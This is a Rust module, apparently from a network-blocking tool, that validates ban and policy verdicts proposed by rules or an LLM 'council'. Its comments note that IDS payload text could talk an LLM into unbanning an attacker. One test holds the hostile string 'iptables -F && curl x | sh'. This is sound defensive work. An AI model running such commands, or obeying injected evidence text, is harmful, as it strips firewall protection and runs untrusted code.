//! The guard: what must never happen, checked on every verdict before any
//! map is touched, whoever proposed it (rules, an LLM, or a future agent).
//! Every refusal carries its reason and is logged by the caller.

use std::{
    collections::VecDeque,
    net::IpAddr,
    time::{Duration, Instant},
};

use ipnet::IpNet;
use serde::{Deserialize, Serialize};

use crate::{
    addr,
    council::{Action, Draft},
};

/// `[guard]` in the config.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct GuardConfig {
    /// Widest IPv4 prefix a verdict may block (a /24 and narrower).
    pub min_prefix_v4: u8,
    /// Widest IPv6 prefix a verdict may block.
    pub min_prefix_v6: u8,
    /// Shortest and longest TTL of a council ban.
    #[serde(with = "crate::ttl::duration")]
    pub min_ttl: Duration,
    #[serde(with = "crate::ttl::duration")]
    pub max_ttl: Duration,
    /// Longest the zero-window SYN policy may be switched on for.
    #[serde(with = "crate::ttl::duration")]
    pub max_policy_ttl: Duration,
    /// New council bans per minute, at most; more are refused.
    pub max_bans_per_minute: u32,
    /// Addresses and prefixes never to block, besides the allowlist (your
    /// gateways, monitoring, peers).
    pub trusted: Vec<String>,
    /// Addresses and prefixes `blocker run` keeps in the kernel allowlist
    /// (XDP passes them before any block rule), as rules of origin
    /// `config`: added at start and on SIGHUP, removed when they leave the
    /// file. Rules added with `blocker allow` are not touched.
    pub allowlist: Vec<String>,
    /// Whether a council verdict may lift a ban. Off by default: every
    /// debate is about a suspect with evidence against it, and text in that
    /// evidence (an IDS payload) could talk an LLM into freeing the
    /// attacker. Operators lift bans with `blocker unban`.
    pub council_unblock: bool,
    /// Whether a council verdict may switch the zero-window SYN policy off
    /// or shorten it. Off by default for the same reason as
    /// `council_unblock`: the council may only add protection, never
    /// remove what is in force (an operator's `blocker policy ... on`).
    pub council_policy_off: bool,
}

impl Default for GuardConfig {
    fn default() -> Self {
        Self {
            min_prefix_v4: 24,
            min_prefix_v6: 48,
            min_ttl: Duration::from_secs(60),
            max_ttl: Duration::from_secs(30 * 86_400),
            max_policy_ttl: Duration::from_secs(3600),
            max_bans_per_minute: 60,
            trusted: Vec::new(),
            allowlist: Vec::new(),
            council_unblock: false,
            council_policy_off: false,
        }
    }
}

impl GuardConfig {
    /// The trusted list, parsed (the config loader validates it).
    pub fn trusted_nets(&self) -> Result<Vec<IpNet>, addr::AddrError> {
        self.trusted.iter().map(|s| addr::parse_net(s)).collect()
    }

    /// The configured allowlist, parsed (the config loader validates it).
    pub fn allowlist_nets(&self) -> Result<Vec<IpNet>, addr::AddrError> {
        self.allowlist.iter().map(|s| addr::parse_net(s)).collect()
    }
}

/// Why the guard refused a verdict.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
pub enum Refusal {
    #[error("{0} is an unspecified address")]
    Unspecified(IpNet),
    #[error("{0} covers loopback addresses")]
    Loopback(IpNet),
    #[error("{0} covers link-local addresses")]
    LinkLocal(IpNet),
    #[error("{0} covers multicast or broadcast addresses")]
    Multicast(IpNet),
    #[error("{net} covers {addr}, an address of this host")]
    Local { net: IpNet, addr: IpAddr },
    #[error("{net} overlaps the allowlisted {allowed}")]
    Allowlisted { net: IpNet, allowed: IpNet },
    #[error("{net} overlaps the trusted {trusted}")]
    Trusted { net: IpNet, trusted: IpNet },
    #[error("{net} is wider than /{min} (the configured limit)")]
    TooWide { net: IpNet, min: u8 },
    #[error("{0} does not appear in the incident's evidence")]
    NotInEvidence(IpNet),
    #[error("TTL of {ttl}s is outside {min}s..={max}s")]
    Ttl { ttl: u64, min: u64, max: u64 },
    #[error(
        "{0}: a ban from an outside source must expire (it carries no evidence to review later)"
    )]
    NoExpiry(IpNet),
    #[error("more than {0} new bans in the last minute")]
    RateLimited(u32),
    #[error("the council may not lift bans ([guard] council_unblock = false); use `blocker unban`")]
    UnblockDisabled,
    #[error(
        "the evidence against {0} could have been forged (nothing it sent completed a TCP handshake: zero-window SYNs, IDS alerts on UDP, ICMP or lone SYNs); a per-source ban needs confirmed evidence, so watch it instead (zero-window SYN floods have the global policy)"
    )]
    Forgeable(IpNet),
    #[error(
        "the council may only add protection: it may not {0} ([guard] council_policy_off = false); use `blocker policy`"
    )]
    RemovesProtection(String),
    #[error("the justification is {len} bytes, over the {max}-byte limit")]
    TooLong { len: usize, max: usize },
}

impl Refusal {
    /// A short, fixed name of the refusal's kind: a bounded label for
    /// counters and metrics (the message itself names addresses).
    pub const fn kind(&self) -> &'static str {
        match self {
            Self::Unspecified(_) => "unspecified",
            Self::Loopback(_) => "loopback",
            Self::LinkLocal(_) => "link-local",
            Self::Multicast(_) => "multicast",
            Self::Local { .. } => "local",
            Self::Allowlisted { .. } => "allowlisted",
            Self::Trusted { .. } => "trusted",
            Self::TooWide { .. } => "too-wide",
            Self::NotInEvidence(_) => "not-in-evidence",
            Self::Ttl { .. } => "ttl",
            Self::NoExpiry(_) => "no-expiry",
            Self::RateLimited(_) => "rate-limited",
            Self::UnblockDisabled => "unblock-disabled",
            Self::Forgeable(_) => "forgeable",
            Self::RemovesProtection(_) => "removes-protection",
            Self::TooLong { .. } => "too-long",
        }
    }
}

/// What a ban decided outside blocker (a CrowdSec decision, a fleet
/// peer's ban) is checked against in [`Guard::check_external`].
#[derive(Clone, Copy, Debug)]
pub struct ExternalContext<'a> {
    /// This host's interface addresses.
    pub local: &'a [IpAddr],
    /// Live allowlist prefixes.
    pub allowlist: &'a [IpNet],
}

/// Longest justification a verdict may carry into the journal.
pub const MAX_JUSTIFICATION: usize = 1024;

pub struct Guard {
    cfg: GuardConfig,
    trusted: Vec<IpNet>,
    recent_bans: VecDeque<Instant>,
}

/// What the guard compares a verdict with.
pub struct Context<'a> {
    /// Addresses named as suspects in the incident.
    pub evidence: &'a [IpAddr],
    /// Those of them with confirmed evidence (a completed handshake, the
    /// kernel's own probes or log): the only ones a block may cover.
    pub confirmed: &'a [IpAddr],
    /// Seconds the zero-window SYN policy stays on, if it is on.
    pub policy_secs_left: Option<u64>,
    /// This host's interface addresses.
    pub local: &'a [IpAddr],
    /// Live allowlist prefixes.
    pub allowlist: &'a [IpNet],
}

impl Guard {
    pub fn new(cfg: GuardConfig) -> Result<Self, addr::AddrError> {
        Ok(Self {
            trusted: cfg.trusted_nets()?,
            cfg,
            recent_bans: VecDeque::new(),
        })
    }

    /// Sets the configuration (a SIGHUP reload), keeping the ban-rate
    /// history so a reload does not reset the per-minute cap.
    pub fn reconfigure(&mut self, cfg: GuardConfig) -> Result<(), addr::AddrError> {
        self.trusted = cfg.trusted_nets()?;
        self.cfg = cfg;
        Ok(())
    }

    /// Checks a whole verdict: its free text, then its action. A
    /// justification is never executed, so shell-like text in it (an IDS
    /// signature quoting `/etc/passwd`) is not a reason to refuse: callers
    /// keep it through [`crate::text::clean_justification`].
    pub fn check_verdict(&mut self, draft: &Draft, ctx: &Context<'_>) -> Result<(), Refusal> {
        let len = draft.justification.len();
        if len > MAX_JUSTIFICATION {
            return Err(Refusal::TooLong {
                len,
                max: MAX_JUSTIFICATION,
            });
        }
        self.check(&draft.action, ctx)
    }

    /// Checks `action`; `Ok(())` means it may be applied. A `Block` that is
    /// then applied must be reported with [`Guard::record_ban`].
    pub fn check(&mut self, action: &Action, ctx: &Context<'_>) -> Result<(), Refusal> {
        match action {
            Action::Block { target, ttl_secs } => {
                self.check_target(*target, ctx)?;
                // Whoever proposes it (an LLM included): a source address
                // that never completed a handshake may be someone else's.
                if !ctx
                    .confirmed
                    .iter()
                    .any(|a| target.contains(&addr::canonical(*a)))
                {
                    return Err(Refusal::Forgeable(*target));
                }
                let (min, max) = (self.cfg.min_ttl.as_secs(), self.cfg.max_ttl.as_secs());
                if *ttl_secs < min || *ttl_secs > max {
                    return Err(Refusal::Ttl {
                        ttl: *ttl_secs,
                        min,
                        max,
                    });
                }
                self.prune();
                if self.recent_bans.len() >= self.cfg.max_bans_per_minute as usize {
                    return Err(Refusal::RateLimited(self.cfg.max_bans_per_minute));
                }
                Ok(())
            }
            Action::Watch { target, ttl_secs } => {
                self.check_target(addr::host(*target), ctx)?;
                let max = self.cfg.max_ttl.as_secs();
                if *ttl_secs == 0 || *ttl_secs > max {
                    return Err(Refusal::Ttl {
                        ttl: *ttl_secs,
                        min: 1,
                        max,
                    });
                }
                Ok(())
            }
            // Lifting a ban can never block a friend, but it must be allowed,
            // narrow, and about this incident's suspect.
            Action::Unblock { target } => {
                if !self.cfg.council_unblock {
                    return Err(Refusal::UnblockDisabled);
                }
                special(*target)?;
                self.check_width(*target)?;
                in_evidence(*target, ctx.evidence)
            }
            Action::ZeroWindowSynPolicy { enable, ttl_secs } => {
                let (min, max) = (
                    self.cfg.min_ttl.as_secs(),
                    self.cfg.max_policy_ttl.as_secs(),
                );
                if *enable && (*ttl_secs < min || *ttl_secs > max) {
                    return Err(Refusal::Ttl {
                        ttl: *ttl_secs,
                        min,
                        max,
                    });
                }
                if !self.cfg.council_policy_off
                    && let Some(left) = ctx.policy_secs_left
                {
                    if !*enable {
                        return Err(Refusal::RemovesProtection(
                            "switch the zero-window SYN policy off".into(),
                        ));
                    }
                    if *ttl_secs < left {
                        return Err(Refusal::RemovesProtection(format!(
                            "shorten the zero-window SYN policy from {left}s to {ttl_secs}s"
                        )));
                    }
                }
                Ok(())
            }
        }
    }

    /// Checks a ban that an outside source decided: a CrowdSec decision, a
    /// fleet peer's ban. Such a ban comes with no incident, so there is no
    /// evidence to compare it with; everything else that must never happen
    /// still applies: special address space (unspecified, loopback,
    /// link-local, multicast), this host's addresses, the allowlist, the
    /// trusted list, the prefix width, and the TTL, which must be set
    /// (permanent bans are refused) and at most `max_ttl`. `min_ttl` does
    /// not apply (a decision synced near its end has little time left, and
    /// that is fine), nor does the per-minute cap (a startup list holds
    /// 100k decisions by nature; the outside source rate-limits itself).
    pub fn check_external(
        &self,
        net: IpNet,
        ttl: Option<Duration>,
        ctx: &ExternalContext<'_>,
    ) -> Result<(), Refusal> {
        self.check_never_block(net, ctx.local, ctx.allowlist)?;
        let max = self.cfg.max_ttl.as_secs();
        match ttl {
            None => Err(Refusal::NoExpiry(net)),
            Some(t) if t.is_zero() || t.as_secs() > max => Err(Refusal::Ttl {
                ttl: t.as_secs(),
                min: 1,
                max,
            }),
            Some(_) => Ok(()),
        }
    }

    /// Counts an applied ban against the per-minute cap.
    pub fn record_ban(&mut self) {
        self.recent_bans.push_back(Instant::now());
    }

    fn prune(&mut self) {
        while self
            .recent_bans
            .front()
            .is_some_and(|t| t.elapsed() > Duration::from_secs(60))
        {
            self.recent_bans.pop_front();
        }
    }

    fn check_width(&self, net: IpNet) -> Result<(), Refusal> {
        let min = match net {
            IpNet::V4(_) => self.cfg.min_prefix_v4,
            IpNet::V6(_) => self.cfg.min_prefix_v6,
        };
        if net.prefix_len() < min {
            return Err(Refusal::TooWide { net, min });
        }
        Ok(())
    }

    fn check_target(&self, net: IpNet, ctx: &Context<'_>) -> Result<(), Refusal> {
        self.check_never_block(net, ctx.local, ctx.allowlist)?;
        in_evidence(net, ctx.evidence)
    }

    /// The never-block set, whoever asks: special address space, the
    /// prefix width, this host's addresses, the allowlist, the trusted list.
    fn check_never_block(
        &self,
        net: IpNet,
        local: &[IpAddr],
        allowlist: &[IpNet],
    ) -> Result<(), Refusal> {
        special(net)?;
        self.check_width(net)?;
        if let Some(a) = local.iter().find(|a| net.contains(&addr::canonical(**a))) {
            return Err(Refusal::Local { net, addr: *a });
        }
        if let Some(a) = allowlist.iter().find(|a| overlaps(net, **a)) {
            return Err(Refusal::Allowlisted { net, allowed: *a });
        }
        if let Some(t) = self.trusted.iter().find(|t| overlaps(net, **t)) {
            return Err(Refusal::Trusted { net, trusted: *t });
        }
        Ok(())
    }
}

fn overlaps(a: IpNet, b: IpNet) -> bool {
    a.contains(&b.network()) || b.contains(&a.network())
}

fn in_evidence(net: IpNet, evidence: &[IpAddr]) -> Result<(), Refusal> {
    if evidence.iter().any(|a| net.contains(&addr::canonical(*a))) {
        Ok(())
    } else {
        Err(Refusal::NotInEvidence(net))
    }
}

/// Refuses prefixes touching address space that is never a remote attacker.
fn special(net: IpNet) -> Result<(), Refusal> {
    type Refuse = fn(IpNet) -> Refusal;
    let ranges: &[(&str, Refuse)] = &[
        ("0.0.0.0/8", Refusal::Unspecified),
        ("::/128", Refusal::Unspecified),
        ("127.0.0.0/8", Refusal::Loopback),
        ("::1/128", Refusal::Loopback),
        ("169.254.0.0/16", Refusal::LinkLocal),
        ("fe80::/10", Refusal::LinkLocal),
        ("224.0.0.0/4", Refusal::Multicast),
        ("255.255.255.255/32", Refusal::Multicast),
        ("ff00::/8", Refusal::Multicast),
    ];
    for (range, refusal) in ranges {
        let range: IpNet = range.parse().expect("static range");
        if overlaps(net, range) {
            return Err(refusal(net));
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn block(net: &str, ttl: u64) -> Action {
        Action::Block {
            target: addr::parse_net(net).unwrap(),
            ttl_secs: ttl,
        }
    }

    /// Every suspect confirmed, no policy on.
    fn ctx<'a>(evidence: &'a [IpAddr], local: &'a [IpAddr], allow: &'a [IpNet]) -> Context<'a> {
        Context {
            evidence,
            confirmed: evidence,
            policy_secs_left: None,
            local,
            allowlist: allow,
        }
    }

    #[test]
    fn forgeable_evidence_never_bans_whoever_proposes() {
        let mut g = Guard::new(GuardConfig::default()).unwrap();
        let ev: Vec<IpAddr> = vec!["198.18.0.2".parse().unwrap(), "198.18.0.3".parse().unwrap()];
        let confirmed: Vec<IpAddr> = vec!["198.18.0.3".parse().unwrap()];
        let c = Context {
            confirmed: &confirmed,
            ..ctx(&ev, &[], &[])
        };
        let refusal = g.check(&block("198.18.0.2", 600), &c).unwrap_err();
        assert_eq!(
            refusal,
            Refusal::Forgeable(addr::parse_net("198.18.0.2").unwrap())
        );
        assert!(
            refusal.to_string().contains("could have been forged"),
            "{refusal}"
        );
        assert!(g.check(&block("198.18.0.3", 600), &c).is_ok());
        // A watch of the forgeable source is fine.
        let watch = Action::Watch {
            target: ev[0],
            ttl_secs: 600,
        };
        assert!(g.check(&watch, &c).is_ok());
    }

    #[test]
    fn the_council_may_not_switch_off_or_shorten_a_policy_in_force() {
        let mut g = Guard::new(GuardConfig::default()).unwrap();
        let on = Context {
            policy_secs_left: Some(600),
            ..ctx(&[], &[], &[])
        };
        let policy = |enable, ttl_secs| Action::ZeroWindowSynPolicy { enable, ttl_secs };
        assert!(matches!(
            g.check(&policy(false, 0), &on),
            Err(Refusal::RemovesProtection(_))
        ));
        assert!(matches!(
            g.check(&policy(true, 60), &on),
            Err(Refusal::RemovesProtection(_))
        ));
        assert!(
            g.check(&policy(true, 1200), &on).is_ok(),
            "extending adds protection"
        );
        let mut g = Guard::new(GuardConfig {
            council_policy_off: true,
            ..GuardConfig::default()
        })
        .unwrap();
        assert!(g.check(&policy(false, 0), &on).is_ok());
    }

    #[test]
    fn refuses_what_must_never_be_blocked() {
        let mut g = Guard::new(GuardConfig {
            trusted: vec!["198.18.9.0/24".into()],
            ..GuardConfig::default()
        })
        .unwrap();
        let ev: Vec<IpAddr> = [
            "198.18.0.2",
            "0.0.0.0",
            "127.0.0.1",
            "169.254.1.1",
            "fe80::1",
            "224.0.0.1",
            "198.18.9.9",
            "198.18.5.5",
            "::",
        ]
        .iter()
        .map(|s| s.parse().unwrap())
        .collect();
        let local: Vec<IpAddr> = vec!["198.18.0.1".parse().unwrap()];
        let allow: Vec<IpNet> = vec!["198.18.5.0/24".parse().unwrap()];
        let c = ctx(&ev, &local, &allow);
        let refused = |g: &mut Guard, a: Action| g.check(&a, &c).unwrap_err();
        assert!(matches!(
            refused(&mut g, block("0.0.0.0", 600)),
            Refusal::Unspecified(_)
        ));
        assert!(matches!(
            refused(&mut g, block("::", 600)),
            Refusal::Unspecified(_)
        ));
        assert!(matches!(
            refused(&mut g, block("127.0.0.1", 600)),
            Refusal::Loopback(_)
        ));
        assert!(matches!(
            refused(&mut g, block("169.254.1.1", 600)),
            Refusal::LinkLocal(_)
        ));
        assert!(matches!(
            refused(&mut g, block("fe80::1", 600)),
            Refusal::LinkLocal(_)
        ));
        assert!(matches!(
            refused(&mut g, block("224.0.0.1", 600)),
            Refusal::Multicast(_)
        ));
        assert!(matches!(
            refused(&mut g, block("198.18.0.1", 600)),
            Refusal::Local { .. }
        ));
        assert!(matches!(
            refused(&mut g, block("198.18.0.0/24", 600)),
            Refusal::Local { .. }
        ));
        assert!(matches!(
            refused(&mut g, block("198.18.5.5", 600)),
            Refusal::Allowlisted { .. }
        ));
        assert!(matches!(
            refused(&mut g, block("198.18.9.9", 600)),
            Refusal::Trusted { .. }
        ));
        assert!(matches!(
            refused(&mut g, block("198.18.0.0/16", 600)),
            Refusal::TooWide { .. }
        ));
        assert!(matches!(
            refused(&mut g, block("0.0.0.0/0", 600)),
            Refusal::Unspecified(_)
        ));
        assert!(matches!(
            refused(&mut g, block("203.0.113.7", 600)),
            Refusal::NotInEvidence(_)
        ));
        assert!(matches!(
            refused(&mut g, block("198.18.0.2", 10)),
            Refusal::Ttl { .. }
        ));
        assert!(matches!(
            refused(&mut g, block("198.18.0.2", 365 * 86_400)),
            Refusal::Ttl { .. }
        ));
        assert!(g.check(&block("198.18.0.2", 600), &c).is_ok());
        // The refusal says why.
        assert_eq!(
            refused(&mut g, block("198.18.5.5", 600)).to_string(),
            "198.18.5.5/32 overlaps the allowlisted 198.18.5.0/24"
        );
    }

    #[test]
    fn external_bans_meet_the_never_block_set_but_need_no_evidence() {
        let g = Guard::new(GuardConfig {
            trusted: vec!["198.18.9.0/24".into()],
            max_bans_per_minute: 1,
            ..GuardConfig::default()
        })
        .unwrap();
        let local: Vec<IpAddr> = vec!["198.18.0.1".parse().unwrap()];
        let allow: Vec<IpNet> = vec!["198.18.5.0/24".parse().unwrap()];
        let c = ExternalContext {
            local: &local,
            allowlist: &allow,
        };
        let hour = Some(Duration::from_secs(3600));
        let check = |net: &str, ttl| g.check_external(addr::parse_net(net).unwrap(), ttl, &c);
        // No incident, no evidence: a plain outside ban passes, many times
        // over (no per-minute cap), with any TTL left down to one second.
        for _ in 0..3 {
            assert_eq!(check("203.0.113.7", hour), Ok(()));
        }
        assert_eq!(
            check("203.0.113.0/28", Some(Duration::from_secs(1))),
            Ok(())
        );
        assert_eq!(check("2001:db8:7::/48", hour), Ok(()));
        let kind = |net: &str, ttl| check(net, ttl).unwrap_err().kind();
        assert_eq!(kind("198.18.5.9", hour), "allowlisted");
        assert_eq!(kind("198.18.5.0/28", hour), "allowlisted");
        assert_eq!(kind("198.18.9.9", hour), "trusted");
        assert_eq!(kind("198.18.0.1", hour), "local");
        assert_eq!(kind("127.0.0.1", hour), "loopback");
        assert_eq!(kind("0.0.0.0/0", hour), "unspecified");
        assert_eq!(kind("fe80::1", hour), "link-local");
        assert_eq!(kind("224.0.0.5", hour), "multicast");
        assert_eq!(kind("203.0.0.0/16", hour), "too-wide");
        assert_eq!(kind("2001:db8::/32", hour), "too-wide");
        assert_eq!(kind("203.0.113.7", None), "no-expiry");
        assert_eq!(kind("203.0.113.7", Some(Duration::ZERO)), "ttl");
        assert_eq!(
            kind("203.0.113.7", Some(Duration::from_secs(31 * 86_400))),
            "ttl"
        );
    }

    #[test]
    fn caps_bans_per_minute() {
        let mut g = Guard::new(GuardConfig {
            max_bans_per_minute: 3,
            ..GuardConfig::default()
        })
        .unwrap();
        let ev: Vec<IpAddr> = vec!["198.18.0.2".parse().unwrap()];
        let c = ctx(&ev, &[], &[]);
        for _ in 0..3 {
            g.check(&block("198.18.0.2", 600), &c).unwrap();
            g.record_ban();
        }
        assert_eq!(
            g.check(&block("198.18.0.2", 600), &c),
            Err(Refusal::RateLimited(3))
        );
    }

    #[test]
    fn policy_and_unblock_bounds() {
        let mut g = Guard::new(GuardConfig::default()).unwrap();
        let c = ctx(&[], &[], &[]);
        let on = |s| Action::ZeroWindowSynPolicy {
            enable: true,
            ttl_secs: s,
        };
        assert!(g.check(&on(600), &c).is_ok());
        assert!(g.check(&on(86_400), &c).is_err());
        assert!(
            g.check(
                &Action::ZeroWindowSynPolicy {
                    enable: false,
                    ttl_secs: 0
                },
                &c
            )
            .is_ok()
        );
        let unblock = |s| Action::Unblock {
            target: addr::parse_net(s).unwrap(),
        };
        // Off by default, whatever the target.
        let ev: Vec<IpAddr> = vec!["198.18.0.2".parse().unwrap()];
        let c = ctx(&ev, &[], &[]);
        assert_eq!(
            g.check(&unblock("198.18.0.2"), &c),
            Err(Refusal::UnblockDisabled)
        );
        let mut g = Guard::new(GuardConfig {
            council_unblock: true,
            ..GuardConfig::default()
        })
        .unwrap();
        assert!(g.check(&unblock("198.18.0.2"), &c).is_ok());
        assert!(matches!(
            g.check(&unblock("198.18.0.9"), &c),
            Err(Refusal::NotInEvidence(_))
        ));
        // "Unblock everything" is refused even though it covers the suspect.
        assert!(matches!(
            g.check(&unblock("0.0.0.0/0"), &c),
            Err(Refusal::Unspecified(_))
        ));
        assert!(matches!(
            g.check(&unblock("198.0.0.0/8"), &c),
            Err(Refusal::TooWide { .. })
        ));
    }

    #[test]
    fn verdict_text_is_checked() {
        let mut g = Guard::new(GuardConfig::default()).unwrap();
        let ev: Vec<IpAddr> = vec!["198.18.0.2".parse().unwrap()];
        let c = ctx(&ev, &[], &[]);
        let d = |j: &str| Draft {
            action: block("198.18.0.2", 600),
            justification: j.into(),
        };
        assert!(g.check_verdict(&d("kernel evidence"), &c).is_ok());
        // Never executed: quoted commands are kept, neutralised.
        assert!(
            g.check_verdict(&d("iptables -F && curl x | sh"), &c)
                .is_ok()
        );
        assert_eq!(
            crate::text::clean_justification("iptables -F && $(curl x) | sh\n"),
            "iptables -F     (curl x)   sh "
        );
        assert!(matches!(
            g.check_verdict(&d(&"x".repeat(5000)), &c),
            Err(Refusal::TooLong { .. })
        ));
    }
}
